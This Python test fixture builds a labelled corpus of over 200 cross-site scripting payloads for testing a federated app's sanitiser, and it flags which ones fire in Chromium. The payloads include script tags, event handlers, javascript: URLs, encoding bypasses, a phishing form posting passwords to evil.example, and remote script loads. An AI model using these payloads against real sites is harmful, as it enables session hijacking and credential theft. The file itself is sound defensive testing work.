"""The hostile corpus: at least 200 distinct XSS payloads a remote server could send.

Each payload is used everywhere a remote string reaches a page: a reply's content, the author's
display name and handle (preferredUsername), their profile, note and avatar URLs, and custom
emoji names (tests/federation/test_conversation_xss.py). `live` marks the payloads that run
script in Chromium without a click when pasted raw into a page's body: the detector's own test
renders each of them unsanitised and must see every one fire (measured, not guessed: a payload
is marked live only after the detector saw it run).

Shared by several test modules (which must not import each other).
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import quote

__all__ = ["JS", "PAYLOADS", "Payload"]

JS = "alert(1)"


@dataclass(frozen=True)
class Payload:
    name: str  # unique, for messages
    category: str
    text: str
    live: bool = False  # runs script on its own when inserted raw (see module docstring)


_ENTRY: list[Payload] = []


def _add(category: str, name: str, text: str) -> None:
    _ENTRY.append(Payload(f"{category}:{name}", category, text))


def _entities_dec(s: str) -> str:
    return "".join(f"&#{ord(c)};" for c in s)


def _entities_hex(s: str) -> str:
    return "".join(f"&#x{ord(c):x};" for c in s)


def _entities_padded(s: str) -> str:
    return "".join(f"&#0000{ord(c)}" for c in s)  # no semicolons, zero padding


def _percent(s: str) -> str:
    return "".join(f"%{ord(c):02X}" for c in s)


# --- script tags --------------------------------------------------------------------------------
_add("script", "plain", f"<script>{JS}</script>")
_add("script", "upper", f"<SCRIPT>{JS}</SCRIPT>")
_add("script", "mixed", f"<ScRiPt>{JS}</sCrIpT>")
_add("script", "type", f'<script type="text/javascript">{JS}</script>')
_add("script", "module", f'<script type="module">{JS}</script>')
_add("script", "src-data", f'<script src="data:text/javascript,{JS}"></script>')
_add("script", "src-remote", '<script src="https://evil.example/x.js"></script>')
_add("script", "src-relative", '<script src="/x.js"></script>')
_add("script", "unclosed", f"<script>{JS}")
_add("script", "slash-attr", f"<script/x>{JS}</script>")
_add("script", "newline-tag", f"<script\n>{JS}</script\n>")
_add("script", "in-p", f"<p>hello<script>{JS}</script>world</p>")
_add("script", "nested-split", f"<scr<script>ipt>{JS}</scr</script>ipt>")
_add("script", "double-open", f"<<script>{JS}//<</script>")
_add("script", "comment-inside", f"<script><!--\n{JS}\n--></script>")
_add("script", "string-close", f"<script>var a='</script><script>{JS}</script>")
_add("script", "defer", f'<script defer>{JS}</script>')
_add("script", "async-data", f'<script async src="data:,{JS}"></script>')
_add("script", "charset", f'<script charset="utf-7">{JS}</script>')
_add("script", "template-wrap", f"<template><script>{JS}</script></template>")
_add("script", "noscript-wrap", f"<noscript><p title=\"</noscript><script>{JS}</script>\">")
_add("script", "textarea-break", f"<textarea></textarea><script>{JS}</script>")
_add("script", "title-break", f"</title><script>{JS}</script>")
_add("script", "style-break", f"</style><script>{JS}</script>")

# --- event handlers -----------------------------------------------------------------------------
_HANDLERS = [
    ("img-onerror", f"<img src=x onerror={JS}>"),
    ("img-onerror-quoted", f'<img src="x" onerror="{JS}">'),
    ("img-onerror-single", f"<img src='x' onerror='{JS}'>"),
    ("img-onerror-backtick", f"<img src=x onerror=`{JS}`>"),
    ("img-onerror-slash", f"<img/src=x/onerror={JS}>"),
    ("img-onerror-upper", f"<IMG SRC=x ONERROR={JS}>"),
    ("img-onerror-newline", f"<img src=x\nonerror\n=\n{JS}>"),
    ("img-onload-data", f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{JS}">'),
    ("img-onerror-tab", f"<img src=x\tonerror={JS}>"),
    ("img-onerror-entity", '<img src=x onerror="&#97;lert(1)">'),
    ("svg-onload", f"<svg onload={JS}>"),
    ("svg-onload-slash", f"<svg/onload={JS}>"),
    ("body-onload", f"<body onload={JS}>"),
    ("body-onpageshow", f"<body onpageshow={JS}>"),
    ("input-autofocus", f"<input autofocus onfocus={JS}>"),
    ("select-autofocus", f"<select autofocus onfocus={JS}></select>"),
    ("textarea-autofocus", f"<textarea autofocus onfocus={JS}></textarea>"),
    ("details-ontoggle", f"<details open ontoggle={JS}>"),
    ("video-onerror", f"<video src=x onerror={JS}></video>"),
    ("video-source-onerror", f"<video><source onerror={JS}></video>"),
    ("audio-onerror", f"<audio src=x onerror={JS}></audio>"),
    ("iframe-onload", f"<iframe onload={JS}></iframe>"),
    ("object-onerror", f"<object data=x onerror={JS}></object>"),
    ("marquee-onstart", f"<marquee onstart={JS}>x</marquee>"),
    ("div-onmouseover", f"<div onmouseover={JS}>hover me</div>"),
    ("a-onmouseover", f'<a href="https://x.example/" onmouseover={JS}>link</a>'),
    ("p-onclick", f"<p onclick={JS}>click</p>"),
    ("span-onpointerenter", f'<span class="mention" onpointerenter={JS}>m</span>'),
    ("button-onfocus", f"<button autofocus onfocus={JS}>b</button>"),
    ("form-onsubmit", f"<form onsubmit={JS}><input type=submit></form>"),
    ("keygen", f"<keygen autofocus onfocus={JS}>"),
    ("style-onload", f"<style onload={JS}></style>"),
    ("link-onload", f'<link rel=stylesheet href="data:text/css," onload={JS}>'),
    ("animation", f"<style>@keyframes x{{}}</style><p style=animation-name:x "
                  f"onanimationstart={JS}>a</p>"),
    ("transition-end", f"<p style=transition:color 1ms ontransitionend={JS}>t</p>"),
    ("custom-element", f"<x-foo onfocus={JS} tabindex=1 autofocus>x</x-foo>"),
    ("onwheel", f"<div onwheel={JS}>w</div>"),
    ("oncopy", f"<div oncopy={JS}>c</div>"),
    ("onbeforetoggle", f"<div popover id=p onbeforetoggle={JS}>p</div>"),
    ("image-tag", f"<image src=x onerror={JS}>"),
]
for name, text in _HANDLERS:
    _add("handler", name, text)

# --- dangerous URLs, as bare strings (the URL fields) and inside elements (the content) ---------
_SCHEMES = {
    "js": f"javascript:{JS}",
    "js-upper": f"JAVASCRIPT:{JS}",
    "js-mixed": f"JaVaScRiPt:{JS}",
    "js-space-lead": f" javascript:{JS}",
    "js-tab": f"java\tscript:{JS}",
    "js-newline": f"java\nscript:{JS}",
    "js-cr": f"java\rscript:{JS}",
    "js-nul": f"java\x00script:{JS}",
    "js-control-lead": f"\x01javascript:{JS}",
    "js-comment": f"javascript://%0A{JS}",
    "js-void": "javascript:void(alert(1))",
    "js-colon-entity": f"javascript&colon;{JS}",
    "js-entity-dec": _entities_dec("javascript:") + JS,
    "js-entity-hex": _entities_hex("javascript:") + JS,
    "js-entity-padded": _entities_padded("javascript:") + JS,
    "js-entity-tab": f"java&#x09;script:{JS}",
    "js-entity-newline": f"java&#10;script:{JS}",
    "js-percent": _percent("javascript") + f":{JS}",
    "js-percent-colon": f"javascript%3A{JS}",
    "js-double-percent": f"javascript%253A{JS}",
    "data-html": f"data:text/html,<script>{JS}</script>",
    "data-html-b64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": f"data:image/svg+xml,<svg onload={JS}>",
    "data-upper": f"DATA:text/html,<script>{JS}</script>",
    "data-js": f"data:text/javascript,{JS}",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-upper": "VBSCRIPT:msgbox(1)",
    "livescript": f"livescript:{JS}",
    "mocha": f"mocha:{JS}",
    "file": "file:///etc/passwd",
    "blob": "blob:https://evil.example/1",
    "scheme-relative": "//evil.example/x",
    "credentials": "https://admin:secret@evil.example/",
    "at-confusion": "https://blog.example@evil.example/",
    "backslash": "https://evil.example\\@blog.example/",
    "https-no-slash": "https:evil.example",
    "rtl-host": "https://evil.example/\u202egnp.exe",
    "zero-width": "https://ev\u200bil.example/",
    "quote-break": f'https://x.example/"><script>{JS}</script>',
    "attr-break": f"https://x.example/' onmouseover='{JS}",
}
for name, url in _SCHEMES.items():
    _add("url", name, url)
for name in ("js", "js-mixed", "js-tab", "js-entity-dec", "js-entity-hex", "js-entity-padded",
             "js-entity-newline", "js-colon-entity", "js-control-lead", "js-space-lead",
             "data-html", "vbscript", "js-percent"):
    _add("a-href", name, f'<a href="{_SCHEMES[name]}">click</a>')
_add("a-href", "unquoted", f"<a href=javascript:{JS}>click</a>")
_add("a-href", "xlink", f'<svg><a xlink:href="javascript:{JS}"><text y=20>x</text></a></svg>')
_add("a-href", "formaction",
     f'<form><button formaction="javascript:{JS}">go</button></form>')
_add("a-href", "form-action", f'<form action="javascript:{JS}"><input type=submit></form>')
_add("a-href", "area", f'<map name=m><area href="javascript:{JS}" shape=default></map>')
_add("frame", "iframe-js", f'<iframe src="javascript:{JS}"></iframe>')
_add("frame", "iframe-js-upper", f'<IFRAME SRC="JAVASCRIPT:{JS}"></IFRAME>')
_add("frame", "iframe-js-entity",
     f'<iframe src="{_entities_hex("javascript:")}{JS}"></iframe>')
_add("frame", "iframe-data", f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>')
_add("frame", "iframe-srcdoc", f'<iframe srcdoc="<script>{JS}</script>"></iframe>')
_add("frame", "iframe-srcdoc-entity",
     f'<iframe srcdoc="&lt;img src=x onerror={JS}&gt;"></iframe>')
_add("frame", "object-data", f'<object data="javascript:{JS}"></object>')
_add("frame", "embed-src", f'<embed src="javascript:{JS}">')
_add("frame", "embed-svg", f'<embed src="data:image/svg+xml,<svg onload={JS}>">')
_add("frame", "frameset", f"<frameset onload={JS}>")
_add("frame", "base-href", '<base href="javascript:/">')
_add("frame", "meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">')
_add("frame", "meta-refresh-js", f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">')
_add("frame", "portal", '<portal src="https://evil.example/"></portal>')
_add("frame", "link-import", '<link rel=import href="https://evil.example/x">')

# --- SVG and MathML -----------------------------------------------------------------------------
_add("svg", "script", f"<svg><script>{JS}</script></svg>")
_add("svg", "script-href", '<svg><script href="data:,alert(1)"></script></svg>')
_add("svg", "animate-href",
     f'<svg><a><animate attributeName=href values=javascript:{JS} /><text y=20>x</text></a></svg>')
_add("svg", "set-onbegin", f"<svg><set onbegin={JS} attributeName=x dur=1s /></svg>")
_add("svg", "animate-onbegin", f"<svg><animate onbegin={JS} attributeName=x dur=1s /></svg>")
_add("svg", "foreignobject",
     f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>")
_add("svg", "use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>')
_add("svg", "image-onerror", f"<svg><image href=x onerror={JS} /></svg>")
_add("svg", "style-import", "<svg><style>@import 'https://evil.example/x.css';</style></svg>")
_add("svg", "title-break", f"<svg><title><img src=x onerror={JS}></title></svg>")
_add("svg", "desc-break", f"<svg><desc><![CDATA[</desc><script>{JS}</script>]]></desc></svg>")
_add("svg", "handler-entity", '<svg onload="&#x61;lert(1)">')
_add("svg", "uppercase", f"<SVG ONLOAD={JS}>")
_add("svg", "nested", f"<svg><svg onload={JS}></svg></svg>")
_add("svg", "feimage", '<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>')
_add("mathml", "href", f'<math href="javascript:{JS}">click</math>')
_add("mathml", "maction", f'<math><maction actiontype="statusline" xlink:href="javascript:{JS}">'
                          "x</maction></math>")
_add("mathml", "mtext-img", f"<math><mtext><img src=x onerror={JS}></mtext></math>")
_add("mathml", "style-break",
     f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style></mglyph></table>"
     "</mtext></math>")
_add("mathml", "mi-xlink", f'<math><mi xlink:href="javascript:{JS}">x</mi></math>')
_add("mathml", "annotation",
     f'<math><annotation-xml encoding="text/html"><img src=x onerror={JS}></annotation-xml>'
     "</math>")

# --- CSS -----------------------------------------------------------------------------------------
_add("css", "style-attr", '<p style="color:red;font-size:99px">big</p>')
_add("css", "expression", '<p style="width:expression(alert(1))">ie</p>')
_add("css", "url-js", '<p style="background:url(javascript:alert(1))">bg</p>')
_add("css", "url-remote", '<p style="background:url(https://evil.example/track.png)">track</p>')
_add("css", "behavior", '<p style="behavior:url(x.htc)">htc</p>')
_add("css", "moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">b</p>')
_add("css", "overlay", '<p style="position:fixed;top:0;left:0;width:100%;height:100%;'
                       'z-index:9999;background:white">fake login</p>')
_add("css", "style-tag", "<style>body{display:none}</style>hidden")
_add("css", "style-import", "<style>@import url(https://evil.example/x.css);</style>")
_add("css", "escaped-expression", r'<p style="width:exp\72 ession(alert(1))">e</p>')
_add("css", "comment-expression", '<p style="width:exp/**/ression(alert(1))">e</p>')
_add("css", "link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">')
_add("css", "class-injection", '<p class="site-header skip-link">theme classes</p>')
_add("css", "span-style", '<span class="mention" style="display:block;font-size:200px">m</span>')
_add("css", "font-face", "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>")

# --- malformed and nested tags -------------------------------------------------------------------
_add("malformed", "unclosed-img", f"<img src=x onerror={JS}")
_add("malformed", "unclosed-quote", f'<img src="x onerror={JS}>')
_add("malformed", "double-lt", f"<<img src=x onerror={JS}>>")
_add("malformed", "extra-quote", f'<img """><script>{JS}</script>">')
_add("malformed", "nested-a", f'<a href="https://x.example/"><a href="javascript:{JS}">in</a></a>')
_add("malformed", "p-in-a", f'<a href="https://x.example/"><p onclick={JS}>x</p></a>')
_add("malformed", "table-break", f"<table><td><img src=x onerror={JS}></td></table>")
_add("malformed", "select-break", f"<select><img src=x onerror={JS}></select>")
_add("malformed", "form-nesting", f"<form><form><input autofocus onfocus={JS}></form></form>")
_add("malformed", "null-in-tag", f"<scr\x00ipt>{JS}</scr\x00ipt>")
_add("malformed", "null-in-attr", f"<img src=x on\x00error={JS}>")
_add("malformed", "utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")
_add("malformed", "half-width", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e")
_add("malformed", "deep-nesting", "<span>" * 300 + f"<img src=x onerror={JS}>" + "</span>" * 300)
_add("malformed", "attribute-overflow", '<p title="' + "a" * 5000 + f'" onclick={JS}>x</p>')
_add("malformed", "plaintext", f"<plaintext><script>{JS}</script>")
_add("malformed", "xmp", f"<xmp></xmp><img src=x onerror={JS}>")
_add("malformed", "noembed", f'<noembed><img title="</noembed><img src=x onerror={JS}>">')
_add("malformed", "option-break", f'<select><option><style></option></select>'
                                  f'<img src=x onerror={JS}></style>')
_add("malformed", "listing", f"<listing>&lt;img src=x onerror={JS}&gt;</listing>")
_add("malformed", "closing-p-attr", f"</p onclick={JS}>")
_add("malformed", "bad-close", f"</div><img src=x onerror={JS}>")
_add("malformed", "html-body", f"<html><head></head><body><img src=x onerror={JS}></body></html>")

# --- comments and CDATA --------------------------------------------------------------------------
_add("comment", "hidden", f"<!--<script>{JS}</script>-->")
_add("comment", "break-out", f"<!-- --><script>{JS}</script><!-- -->")
_add("comment", "bang", f"<!--!><script>{JS}</script>-->")
_add("comment", "dash-gt", f"<!-->--><img src=x onerror={JS}>")
_add("comment", "bogus", f"<!x><img src=x onerror={JS}>")
_add("comment", "conditional", f"<!--[if IE]><script>{JS}</script><![endif]-->")
_add("comment", "processing", f"<?xml version=1?><img src=x onerror={JS}>")
_add("comment", "cdata", f"<![CDATA[<script>{JS}</script>]]>")
_add("comment", "cdata-svg", f"<svg><![CDATA[><img src=x onerror={JS}>]]></svg>")
_add("comment", "unclosed", f"<!--<img src=x onerror={JS}>")
_add("comment", "in-attr", f'<p title="<!--"><img src=x onerror={JS}>-->')
_add("comment", "doctype", f"<!DOCTYPE html><img src=x onerror={JS}>")

# --- entity- and percent-encoded markup -----------------------------------------------------------
_add("encoded", "lt-gt", f"&lt;script&gt;{JS}&lt;/script&gt;")
_add("encoded", "double", f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;")
_add("encoded", "numeric", _entities_dec(f"<script>{JS}</script>"))
_add("encoded", "hex", _entities_hex(f"<img src=x onerror={JS}>"))
_add("encoded", "no-semicolon", "&#60script&#62alert(1)&#60/script&#62")
_add("encoded", "percent", quote(f"<script>{JS}</script>"))
_add("encoded", "double-percent", quote(quote(f"<script>{JS}</script>")))
_add("encoded", "percent-img", _percent(f"<img src=x onerror={JS}>"))
_add("encoded", "attr-entity-quote",
     f'<p title="&quot;&gt;&lt;script&gt;{JS}&lt;/script&gt;">t</p>')
_add("encoded", "named-entities", f"&LT;script&GT;{JS}&LT;/script&GT;")
_add("encoded", "unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e")
_add("encoded", "js-escape-handler", '<img src=x onerror="\\u0061lert(1)">')
_add("encoded", "base64-text", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
_add("encoded", "overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE")
_add("encoded", "entity-in-tagname", f"<&#115;cript>{JS}</&#115;cript>")
_add("encoded", "entity-in-handler-name", f"<img src=x &#111;nerror={JS}>")

# --- attribute and template breaking (a name or handle pasted into an attribute) ------------------
_add("break", "double-quote", f'"><script>{JS}</script>')
_add("break", "single-quote", f"'><script>{JS}</script>")
_add("break", "quote-handler", f'" onmouseover="{JS}" x="')
_add("break", "single-handler", f"' onmouseover='{JS}' x='")
_add("break", "unquoted-handler", f" onmouseover={JS} ")
_add("break", "close-bdi", f"</bdi><script>{JS}</script><bdi>")
_add("break", "close-title", f"</title><img src=x onerror={JS}>")
_add("break", "close-textarea", f"</textarea><img src=x onerror={JS}>")
_add("break", "close-script", f"</script><script>{JS}</script>")
_add("break", "jinja", "{{ config.items() }}{% raw %}x{% endraw %}")
_add("break", "template-literal", "${alert(1)}")
_add("break", "json-break", '"}]}</script><script>alert(1)</script>')

# --- right-to-left and zero-width tricks ----------------------------------------------------------
_add("bidi", "rlo-name", "Alice\u202eecilA")
_add("bidi", "rlo-extension", "invoice\u202egpj.exe")
_add("bidi", "lro", "\u202dAlice")
_add("bidi", "rli-unclosed", "\u2067Mallory")
_add("bidi", "fsi-pdi", "\u2068x\u2069\u2069\u2069")
_add("bidi", "pdf-flood", "\u202c" * 50 + "x")
_add("bidi", "rlm-lrm", "\u200f\u200eAdmin")
_add("bidi", "alm", "\u061cAdmin")
_add("bidi", "zwsp-handle", "ad\u200bmin")
_add("bidi", "zwj-script", f"<scr\u200dipt>{JS}</scr\u200dipt>")
_add("bidi", "bom", "\ufeffAdmin\ufeff")
_add("bidi", "word-joiner", "Ad\u2060min")
_add("bidi", "hangul-filler", "\u3164\u3164\u3164")
_add("bidi", "braille-blank", "\u2800\u2800")
_add("bidi", "tag-chars", "hi\U000e0041\U000e0042\U000e0043")
_add("bidi", "line-separator", "Alice\u2028Bob\u2029Carol")
_add("bidi", "zalgo", "Z" + "\u0300\u0301\u0302\u0303" * 60)
_add("bidi", "ansi-escape", "\x1b[31mred\x1b[0m\x07")
_add("bidi", "lone-surrogate", "a\ud800b\udfffc")
_add("bidi", "rtl-in-mention",
     '<span class="h-card"><a href="https://x.example/@a" class="u-url mention">@\u202eadmin'
     "</a></span>")

# --- custom emoji ---------------------------------------------------------------------------------
_add("emoji", "shortcode", ":blobcat: :verified:")
_add("emoji", "shortcode-script", f":<script>{JS}</script>:")
_add("emoji", "shortcode-img", f":x:<img src=x onerror={JS}>")
_add("emoji", "emoji-img", '<img class="emoji" src="https://evil.example/e.png" alt=":blob:">')
_add("emoji", "emoji-img-handler", f'<img class="emoji" src=x alt=":b:" onerror={JS}>')
_add("emoji", "quote-shortcode", f'":" onmouseover="{JS}":')
_add("emoji", "long-shortcode", ":" + "a" * 500 + ":")
_add("emoji", "bidi-shortcode", ":blob\u202ecat:")
_add("emoji", "url-shortcode", f":javascript:{JS}:")
_add("emoji", "zwj-sequence", "👩\u200d💻 ok")

# --- other elements a sanitiser must not let through ---------------------------------------------
_add("element", "form-phish",
     '<form action="https://evil.example/login"><input name=password type=password>'
     "<input type=submit></form>")
_add("element", "button", "<button>Delete blog</button>")
_add("element", "input-image", f'<input type=image src=x onerror={JS}>')
_add("element", "dialog-open", "<dialog open>fake dialog</dialog>")
_add("element", "img-tracker", '<img src="https://evil.example/pixel.gif">')
_add("element", "img-srcset", f'<img srcset="x 1x" onerror={JS}>')
_add("element", "picture", f"<picture><source srcset=x><img src=x onerror={JS}></picture>")
_add("element", "track", f"<video><track src=x onerror={JS}></video>")
_add("element", "applet", '<applet code="x.class"></applet>')
_add("element", "isindex", f'<isindex type=image src=x onerror={JS}>')
_add("element", "svg-a-target", '<a href="https://evil.example/" target="_top">top</a>')
_add("element", "a-ping", '<a href="https://x.example/" ping="https://evil.example/">p</a>')
_add("element", "a-download", '<a href="https://x.example/x.exe" download>d</a>')
_add("element", "id-clobber", '<p id="__proto__" name="location">clobber</p>')
_add("element", "form-clobber", '<form name="getElementById"><img name="body"></form>')
_add("element", "contenteditable", "<p contenteditable>edit me</p>")
_add("element", "slot-shadow", f"<div><template shadowrootmode=open><img src=x onerror={JS}>"
                               "</template></div>")
_add("element", "meta-csp",
     '<meta http-equiv="Content-Security-Policy" content="script-src *">')
_add("element", "huge-text", "A" * 120_000)

# Measured: each of these, pasted raw into a built post page and loaded in headless Chromium 156,
# ran script, opened a frame or navigated (tests/support/xss_check.py saw it). The others need a
# click, target old browsers (vbscript:, expression()), are inert text, or are refused by
# Chromium itself (javascript: in object and embed); the HTML check still catches their markup.
_LIVE = frozenset({
    "break:close-bdi",
    "break:close-script",
    "break:close-textarea",
    "break:close-title",
    "break:double-quote",
    "break:json-break",
    "break:single-quote",
    "comment:bogus",
    "comment:break-out",
    "comment:dash-gt",
    "comment:doctype",
    "comment:in-attr",
    "comment:processing",
    "element:img-srcset",
    "element:input-image",
    "element:isindex",
    "element:picture",
    "element:slot-shadow",
    "element:track",
    "emoji:emoji-img-handler",
    "emoji:shortcode-img",
    "emoji:shortcode-script",
    "encoded:js-escape-handler",
    "frame:embed-svg",
    "frame:iframe-data",
    "frame:iframe-js",
    "frame:iframe-js-entity",
    "frame:iframe-js-upper",
    "frame:iframe-srcdoc",
    "frame:iframe-srcdoc-entity",
    "frame:meta-refresh",
    "handler:a-onmouseover",
    "handler:animation",
    "handler:audio-onerror",
    "handler:body-onload",
    "handler:body-onpageshow",
    "handler:button-onfocus",
    "handler:custom-element",
    "handler:details-ontoggle",
    "handler:div-onmouseover",
    "handler:iframe-onload",
    "handler:image-tag",
    "handler:img-onerror",
    "handler:img-onerror-backtick",
    "handler:img-onerror-entity",
    "handler:img-onerror-newline",
    "handler:img-onerror-quoted",
    "handler:img-onerror-single",
    "handler:img-onerror-tab",
    "handler:img-onerror-upper",
    "handler:img-onload-data",
    "handler:input-autofocus",
    "handler:keygen",
    "handler:link-onload",
    "handler:object-onerror",
    "handler:onbeforetoggle",
    "handler:oncopy",
    "handler:onwheel",
    "handler:select-autofocus",
    "handler:span-onpointerenter",
    "handler:style-onload",
    "handler:svg-onload",
    "handler:svg-onload-slash",
    "handler:textarea-autofocus",
    "handler:video-onerror",
    "handler:video-source-onerror",
    "malformed:bad-close",
    "malformed:deep-nesting",
    "malformed:double-lt",
    "malformed:extra-quote",
    "malformed:form-nesting",
    "malformed:html-body",
    "malformed:noembed",
    "malformed:select-break",
    "malformed:table-break",
    "malformed:xmp",
    "mathml:annotation",
    "mathml:mtext-img",
    "script:async-data",
    "script:charset",
    "script:comment-inside",
    "script:defer",
    "script:double-open",
    "script:in-p",
    "script:mixed",
    "script:module",
    "script:newline-tag",
    "script:noscript-wrap",
    "script:plain",
    "script:slash-attr",
    "script:src-data",
    "script:string-close",
    "script:style-break",
    "script:textarea-break",
    "script:title-break",
    "script:type",
    "script:upper",
    "svg:animate-onbegin",
    "svg:foreignobject",
    "svg:handler-entity",
    "svg:image-onerror",
    "svg:nested",
    "svg:script",
    "svg:script-href",
    "svg:set-onbegin",
    "svg:title-break",
    "svg:uppercase",
    "url:data-html",
    "url:data-svg",
    "url:data-upper",
    "url:quote-break",
})

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(p.name, p.category, p.text, p.name in _LIVE) for p in _ENTRY)
assert _LIVE <= {p.name for p in PAYLOADS}, _LIVE - {p.name for p in PAYLOADS}

assert len(PAYLOADS) >= 200, len(PAYLOADS)
assert len({p.name for p in PAYLOADS}) == len(PAYLOADS), "payload names must be unique"
assert len({p.text for p in PAYLOADS}) == len(PAYLOADS), "payloads must be distinct"
